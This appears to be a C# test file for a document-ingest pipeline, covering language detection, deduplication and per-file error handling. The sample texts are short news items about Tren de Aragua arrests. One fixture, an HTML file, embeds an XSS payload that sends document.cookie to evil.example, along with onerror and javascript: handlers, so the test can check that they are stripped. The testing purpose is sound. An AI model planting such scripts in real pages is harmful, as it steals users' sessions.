using System.Text;
using Enlace.Core.Documents;
using Enlace.Testing;

namespace Enlace.Ingest.Tests;

public sealed class IngestPipelineTests
{
    private const string Spanish =
        "La Policía Nacional del Perú detuvo a treinta y un presuntos integrantes de Los Gallegos, facción del Tren de Aragua, " +
        "en inmuebles de Los Olivos y Comas. Según la Fiscalía, las víctimas rescatadas eran mujeres venezolanas.";

    private const string English =
        "Carabineros arrested 17 suspected members of a Tren de Aragua cell in Arica and seized twelve kilograms of cocaine, " +
        "prosecutors said on Monday. The women rescued were taken to a shelter run by the ministry.";

    [Theory, AllEngines]
    public async Task A_folder_is_ingested_recursively_with_languages_detected_and_other_files_listed_as_skipped(Engine engine)
    {
        await using var db = await TestDatabase.CreateAsync(engine);
        var files = SampleFiles.InNewFolder();
        files.Text("es/nota.txt", Spanish);
        files.Text("en/wire.txt", English);
        files.Bytes("photos/raid.jpg", [0xFF, 0xD8, 0xFF, 0xE0]);

        var summary = await new IngestPipeline(db.Store, new IngestOptions()).RunAsync(IngestPlan.For([files.Folder]));

        Assert.Equal(2, summary.Added);
        Assert.Equal("es", summary.Files.Single(f => f.Path.EndsWith("nota.txt", StringComparison.Ordinal)).Language);
        Assert.Equal("en", summary.Files.Single(f => f.Path.EndsWith("wire.txt", StringComparison.Ordinal)).Language);
        var skipped = Assert.Single(summary.Files, f => f.Status == IngestStatus.Skipped);
        Assert.EndsWith("raid.jpg", skipped.Path, StringComparison.Ordinal);
        Assert.Contains(".jpg", skipped.Reason, StringComparison.Ordinal);
    }

    [Theory, AllEngines]
    public async Task Ingesting_the_same_files_again_adds_nothing(Engine engine)
    {
        await using var db = await TestDatabase.CreateAsync(engine);
        var files = SampleFiles.InNewFolder();
        files.Text("a.txt", Spanish);
        files.Text("b.txt", English);
        var pipeline = new IngestPipeline(db.Store, new IngestOptions());
        await pipeline.RunAsync(IngestPlan.For([files.Folder]));

        files.Text("copy-of-a.txt", Spanish);
        var again = await pipeline.RunAsync(IngestPlan.For([files.Folder]));

        Assert.Equal(0, again.Added);
        Assert.Equal(3, again.Unchanged);
        var tenant = await db.Store.EnsureTenantAsync(IngestOptions.DefaultTenant);
        Assert.Equal(2, await db.Store.CountDocumentsAsync(tenant));
    }

    [Theory, AllEngines]
    public async Task Bad_files_fail_one_by_one_while_the_rest_of_the_batch_is_stored_and_nothing_earlier_is_touched(Engine engine)
    {
        await using var db = await TestDatabase.CreateAsync(engine);
        var pipeline = new IngestPipeline(db.Store, new IngestOptions());
        var files = SampleFiles.InNewFolder();
        var earlier = files.Text("earlier.txt", English);
        await pipeline.RunAsync(IngestPlan.For([earlier]));
        var tenant = await db.Store.EnsureTenantAsync(IngestOptions.DefaultTenant);
        var before = await db.Store.ListDocumentsAsync(tenant, 10);

        var paths = new[]
        {
            files.Text("empty.txt", ""),
            files.Bytes("binary.txt", [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xFF, 0xFF]),
            files.Bytes("broken-utf8.txt", [.. Encoding.UTF8.GetBytes("La Policía detuvo a "), 0xC3, 0x28, .. Encoding.UTF8.GetBytes(" personas en Comas, informó la Fiscalía.")]),
            files.Huge("huge.txt", 200L * 1024 * 1024),
            files.Text("notes.xyz", "Field notes: 3 vehicles seen near the market."),
            files.PdfWithoutText("scan.pdf"),
            files.Text("hostile.html",
                "<html><head><title>Operativo en Comas</title><script>fetch('https://evil.example/'+document.cookie)</script>" +
                "<style>body{display:none}</style></head><body onload=\"steal()\"><p>Operativo en Comas: la policía rescató a doce mujeres.</p>" +
                "<img src=x onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">ver más</a></body></html>"),
            files.Text("good.txt", Spanish),
        };

        var summary = await pipeline.RunAsync(IngestPlan.For(paths));

        string Reason(string name) => summary.Files.Single(f => Path.GetFileName(f.Path) == name).Reason ?? "";
        Assert.Contains("empty", Reason("empty.txt"), StringComparison.OrdinalIgnoreCase);
        Assert.Contains("binary", Reason("binary.txt"), StringComparison.OrdinalIgnoreCase);
        Assert.Contains("UTF-8", Reason("broken-utf8.txt"), StringComparison.Ordinal);
        Assert.Contains("200.0 MB", Reason("huge.txt"), StringComparison.Ordinal);
        Assert.Contains("unsupported", Reason("notes.xyz"), StringComparison.OrdinalIgnoreCase);
        Assert.Contains("no text layer", Reason("scan.pdf"), StringComparison.OrdinalIgnoreCase);
        Assert.Equal(6, summary.Failed);
        Assert.Equal(2, summary.Added);

        var hostile = await db.Store.GetDocumentAsync(tenant, summary.Files.Single(f => f.Path.EndsWith(".html", StringComparison.Ordinal)).DocumentId!.Value);
        Assert.NotNull(hostile);
        Assert.Contains("rescató a doce mujeres", hostile.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("cookie", hostile.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("alert", hostile.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("display:none", hostile.Text, StringComparison.Ordinal);
        Assert.Equal("Operativo en Comas", hostile.Title);

        var after = await db.Store.ListDocumentsAsync(tenant, 10);
        Assert.Equal(before[0], after[0]);
        Assert.Equal(3, after.Count);
    }

    [Theory, AllEngines]
    public async Task The_seed_reports_are_found_by_a_search_for_the_gang(Engine engine)
    {
        await using var db = await TestDatabase.CreateAsync(engine);
        var seeds = Path.Combine(SharedFolder.Path, "corpus", "seeds");

        var first = await new IngestPipeline(db.Store, new IngestOptions()).RunAsync(IngestPlan.For([seeds]));
        var second = await new IngestPipeline(db.Store, new IngestOptions()).RunAsync(IngestPlan.For([seeds]));

        Assert.Equal(2, first.Added);
        Assert.Equal(2, second.Unchanged);
        var tenant = await db.Store.EnsureTenantAsync(IngestOptions.DefaultTenant);
        var hits = await db.Store.SearchAsync(tenant, new SearchQuery("Tren de Aragua"));
        Assert.Equal(["000_d3b4579ea020f93a.txt", "003_84c25957cfe7a1fb.txt"], hits.Select(h => h.FileName).Order());
        Assert.All(hits, h => Assert.Equal("en", h.Language));
    }

    [Theory, AllEngines]
    public async Task Options_override_language_publication_date_and_marking(Engine engine)
    {
        await using var db = await TestDatabase.CreateAsync(engine);
        var files = SampleFiles.InNewFolder();
        var path = files.Text("nota.txt", Spanish);
        var options = new IngestOptions(Language: "en", PublishedOn: new DateOnly(2025, 3, 17),
            Marking: new Core.Markings.Marking(Core.Markings.Tlp.Red, Core.Markings.HandlingCode.H2));

        var summary = await new IngestPipeline(db.Store, options).RunAsync(IngestPlan.For([path]));

        var tenant = await db.Store.EnsureTenantAsync(IngestOptions.DefaultTenant);
        var document = await db.Store.GetDocumentAsync(tenant, summary.Files[0].DocumentId!.Value);
        Assert.NotNull(document);
        Assert.Equal("en", document.Language);
        Assert.Equal(new DateOnly(2025, 3, 17), document.PublishedOn);
        Assert.Equal(Core.Markings.Tlp.Red, document.Marking.Tlp);
    }
}
